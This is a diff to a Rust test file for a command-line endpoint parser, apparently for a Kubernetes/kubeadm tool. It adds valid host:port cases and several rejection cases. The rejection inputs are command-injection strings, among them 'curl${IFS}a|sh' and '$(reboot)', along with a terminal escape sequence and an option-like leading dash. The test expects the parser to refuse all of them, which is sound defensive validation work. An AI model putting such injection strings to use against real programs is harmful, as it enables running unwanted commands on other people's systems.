@@ -65,6 +65,8 @@ fn endpoints_are_read_as_people_write_them() {
         ("https://api.lan", "api.lan", 443),
         ("[fd00::1]:6443", "fd00::1", 6443),
         ("https://[fd00::1]", "fd00::1", 443),
+        ("[fe80::1%eth0]:6443", "fe80::1%eth0", 6443),
+        ("api_1.lan.:6443", "api_1.lan.", 6443),
     ] {
         let read = Endpoint::parse("x", text).unwrap();
         assert_eq!((read.host.as_str(), read.port), (host, port), "{text}");
@@ -82,6 +84,11 @@ fn what_cannot_be_meant_is_refused_with_its_place_and_what_to_write() {
         (arguments(&["http://a:80"]), "HOST:PORT", "speaks HTTPS", "HOST:PORT"),
         (arguments(&["a:99999"]), "HOST:PORT", "not a number", "HOST:PORT"),
         (arguments(&[":6443"]), "HOST:PORT", "no host", "HOST:PORT"),
+        (arguments(&["x;curl${IFS}a|sh;:6443"]), "HOST:PORT", "no name or address", "HOST:PORT"),
+        (arguments(&["https://$(reboot)"]), "HOST:PORT", "no name or address", "HOST:PORT"),
+        (arguments(&["x\u{1b}[2J\n:6443"]), "HOST:PORT", "no name or address", "HOST:PORT"),
+        (arguments(&["-x:6443"]), "HOST:PORT", "no name or address", "HOST:PORT"),
+        (arguments(&["[fe80::1%;reboot]:6443"]), "HOST:PORT", "no name or address", "HOST:PORT"),
         (token("${TOKEN}"), "--token", "placeholder", "kubeadm token create"),
         (token(&format!("abcde.{SECRET}")), "--token", "22 characters", "kubeadm token create"),
         (token(""), "--token", "empty", "kubeadm token create"),
